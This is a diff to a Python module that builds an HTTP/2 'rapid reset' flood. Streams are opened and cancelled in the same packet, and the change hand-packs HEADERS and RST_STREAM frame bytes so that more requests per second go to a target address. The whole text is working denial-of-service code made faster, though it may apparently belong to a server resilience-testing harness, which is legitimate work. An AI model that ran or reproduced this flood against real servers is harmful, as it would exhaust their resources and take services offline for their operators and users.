@@ -77,20 +77,25 @@ def trickled(address: str, connections: int) -> Iterator[None]:
 
 
 def reset_flood(address: str, rate: float) -> contextlib.AbstractContextManager[list[int]]:
-    """Calls that are cancelled in the same packet that begins them (rapid reset)."""
+    """Calls that are cancelled in the same packet that begins them (rapid reset).
+
+    Bytes are put together without a library: it would keep one core busy beside the server.
+    """
     encoder, streams = Encoder(), itertools.count(1, 2)
     headers(encoder, 1)  # from here on the header block is a few indices
+    block = headers(encoder, 1)[9:]
+    begun = len(block).to_bytes(3, "big") + bytes((HeadersFrame.type, 4))
+    reset = (4).to_bytes(3, "big") + bytes((RstStreamFrame.type, 0))
+    cancel = CANCEL.to_bytes(4, "big")
 
     def frames(count: int) -> bytes:
-        return b"".join(
-            headers(encoder, stream) + RstStreamFrame(stream, error_code=CANCEL).serialize()
-            for stream in itertools.islice(streams, count)
-        )
+        numbers = [stream.to_bytes(4, "big") for stream in itertools.islice(streams, count)]
+        return b"".join([begun + n + block + reset + n + cancel for n in numbers])
 
     def begin() -> bytes:
-        nonlocal encoder, streams
-        encoder, streams = Encoder(), itertools.count(1, 2)
-        return GREETING
+        nonlocal streams
+        streams = itertools.count(3, 2)
+        return GREETING + headers(Encoder(), 1) + reset + (1).to_bytes(4, "big") + cancel
 
     return _flood(address, rate, begin, frames)
 
